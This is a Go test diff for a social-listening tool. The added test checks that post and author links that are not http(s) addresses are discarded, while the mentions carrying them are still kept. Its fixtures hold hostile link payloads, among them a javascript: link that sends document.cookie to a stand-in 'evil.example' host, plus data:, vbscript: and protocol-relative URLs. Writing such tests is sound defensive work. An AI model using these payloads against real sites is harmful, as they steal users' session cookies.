@@ -406,3 +406,35 @@ func TestPollDatesAbsurdMentionsWhenSeen(t *testing.T) {
 		}
 	}
 }
+
+// TestPollKeepsOnlyWebLinks: a source's post or author link that is not an
+// http(s) address (a hostile server's javascript: or data: link) is not kept,
+// so the window and the digests never make it clickable; the mention is.
+func TestPollKeepsOnlyWebLinks(t *testing.T) {
+	linked := func(id, link, author string) listening.Mention {
+		m := post("mastodon", id, "Acme is down")
+		m.URL, m.AuthorURL = link, author
+		return m
+	}
+	src := &scripted{name: listening.SourceMastodon, pages: map[string]listening.Page{
+		"": {Mentions: []listening.Mention{
+			linked("ok", "https://m.example/@a/1", " http://m.example/@a "),
+			linked("js", "javascript:fetch('https://evil.example/'+document.cookie)", "JavaScript:alert(1)"),
+			linked("data", "data:text/html,<script>alert(1)</script>", "vbscript:x"),
+			linked("rel", "/@a/3", "//evil.example/@a"),
+		}, Cursor: "c1", Limits: listening.Limits{Remaining: -1}},
+	}}
+	f := newFixture(t, "acme", src)
+	if r := f.poll(t); r.New != 4 {
+		t.Fatalf("round = %+v, want all 4 mentions kept", r)
+	}
+	for _, m := range f.mentions(t) {
+		wantURL, wantAuthor := "", ""
+		if m.ExternalID == "ok" {
+			wantURL, wantAuthor = "https://m.example/@a/1", "http://m.example/@a"
+		}
+		if m.URL != wantURL || m.AuthorURL != wantAuthor {
+			t.Errorf("mention %s: links %q, %q; want %q, %q", m.ExternalID, m.URL, m.AuthorURL, wantURL, wantAuthor)
+		}
+	}
+}
